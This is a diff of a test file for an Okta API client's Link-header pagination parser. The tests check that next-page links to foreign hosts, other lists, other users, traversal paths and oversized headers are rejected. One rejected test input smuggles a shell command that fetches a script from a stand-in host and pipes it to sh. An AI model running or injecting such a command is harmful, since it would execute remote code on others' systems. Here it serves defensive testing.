@@ -2,36 +2,37 @@ import { describe, expect, test } from 'vitest';
 import { isSamePage, nextLink } from '../../src/okta/links.ts';
 
 const origin = 'https://acme.okta.com';
+const first = `${origin}/api/v1/users?limit=2`;
 const self = `<${origin}/api/v1/users?limit=2>; rel="self"`;
 const next = `<${origin}/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2>; rel="next"`;
 
 describe('nextLink', () => {
   test('reads two header lines and one joined line alike', () => {
     const path = '/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2';
-    expect(nextLink([self, next], origin)).toBe(path);
-    expect(nextLink(`${self}, ${next}`, origin)).toBe(path);
-    expect(nextLink(`${next}, ${self}`, origin)).toBe(path);
+    expect(nextLink([self, next], first)).toBe(path);
+    expect(nextLink(`${self}, ${next}`, first)).toBe(path);
+    expect(nextLink(`${next}, ${self}`, first)).toBe(path);
   });
 
   test('takes commas, quotes and semicolons inside the URL as part of it', () => {
     const url = `${origin}/api/v1/logs?filter=eventType%20eq%20%22a%22,b;c&after=1_1`;
-    expect(nextLink(`<${url}>; rel="next"`, origin)).toBe(url.slice(origin.length));
+    expect(nextLink(`<${url}>; rel="next"`, `${origin}/api/v1/logs`)).toBe(url.slice(origin.length));
   });
 
   test('is undefined on the last page, and without a header that names a next one', () => {
-    expect(nextLink([self], origin)).toBeUndefined();
-    expect(nextLink(undefined, origin)).toBeUndefined();
-    expect(nextLink('next, please', origin)).toBeUndefined();
+    expect(nextLink([self], first)).toBeUndefined();
+    expect(nextLink(undefined, first)).toBeUndefined();
+    expect(nextLink('next, please', first)).toBeUndefined();
   });
 
   test('a link to the next page that cannot be read is an error, not the end of the list', () => {
-    expect(() => nextLink(`${origin}/api/v1/users?after=x; rel="next"`, origin)).toThrow(
+    expect(() => nextLink(`${origin}/api/v1/users?after=x; rel="next"`, first)).toThrow(
       expect.objectContaining({ category: 'unexpected_response' }),
     );
   });
 
   test('reads the relation whatever its case', () => {
-    expect(nextLink(`<${origin}/api/v1/users?after=x>; REL="NEXT"`, origin)).toBe('/api/v1/users?after=x');
+    expect(nextLink(`<${origin}/api/v1/users?after=x>; REL="NEXT"`, first)).toBe('/api/v1/users?after=x');
   });
 
   test('reads a link that is relative to its page', () => {
@@ -41,7 +42,7 @@ describe('nextLink', () => {
   });
 
   test('is not misled by a URL that merely contains the word next', () => {
-    expect(nextLink(`<${origin}/api/v1/users?q=next>; rel="self"`, origin)).toBeUndefined();
+    expect(nextLink(`<${origin}/api/v1/users?q=next>; rel="self"`, first)).toBeUndefined();
   });
 
   test.each([
@@ -50,15 +51,54 @@ describe('nextLink', () => {
     'https://acme.okta.com:8443',
     'https://acme.okta.com.evil.example',
   ])('refuses to follow a link to %s', (foreign) => {
-    expect(() => nextLink(`<${foreign}/api/v1/users?after=x>; rel="next"`, origin)).toThrow(
+    expect(() => nextLink(`<${foreign}/api/v1/users?after=x>; rel="next"`, first)).toThrow(
       expect.objectContaining({ category: 'unexpected_response', field: 'orgUrl' }),
     );
   });
 
   test('follows a link to the admin host of the same org on the org URL', () => {
-    expect(nextLink('<https://acme-admin.okta.com/api/v1/users?after=x>; rel="next"', origin)).toBe(
+    expect(nextLink('<https://acme-admin.okta.com/api/v1/users?after=x>; rel="next"', first)).toBe(
       '/api/v1/users?after=x',
     );
+  });
+});
+
+describe('nextLink and other lists', () => {
+  const groups = `${origin}/api/v1/users/grace%40acme.example/groups`;
+
+  test.each([
+    '/api/v1/groups?after=x',
+    '/api/v1/users/00u1?after=x',
+    '/api/v1/users/?after=x',
+    "/api/v1/users';curl evil.example|sh;'?after=x",
+    '/api/v1/users/../groups?after=x',
+    '/?after=x',
+  ])('refuses to follow a list of users to %s', (path) => {
+    expect(() => nextLink(`<${origin}${path}>; rel="next"`, first)).toThrow(
+      expect.objectContaining({ category: 'unexpected_response' }),
+    );
+  });
+
+  test('goes on with the login that was asked for where the link names an ID', () => {
+    const link = `<${origin}/api/v1/users/00ugrace000000000001/groups?after=x>; rel="next"`;
+    expect(nextLink(link, groups)).toBe('/api/v1/users/grace%40acme.example/groups?after=x');
+  });
+
+  test.each(['omar%40acme.example', '..', "x'y"])('refuses another login: %s', (user) => {
+    expect(() => nextLink(`<${origin}/api/v1/users/${user}/groups?after=x>; rel="next"`, groups)).toThrow(
+      expect.objectContaining({ category: 'unexpected_response' }),
+    );
+  });
+
+  test('refuses another ID than the one asked for', () => {
+    const page = `${origin}/api/v1/users/00ugrace000000000001/groups`;
+    expect(() => nextLink(`<${origin}/api/v1/users/00uomar0000000000001/groups?after=x>; rel="next"`, page)).toThrow(
+      expect.objectContaining({ category: 'unexpected_response' }),
+    );
+  });
+
+  test('a header beyond every bound is not read', () => {
+    expect(() => nextLink(`${next}${' '.repeat(20_000)}`, first)).toThrow('cannot be read');
   });
 });
 
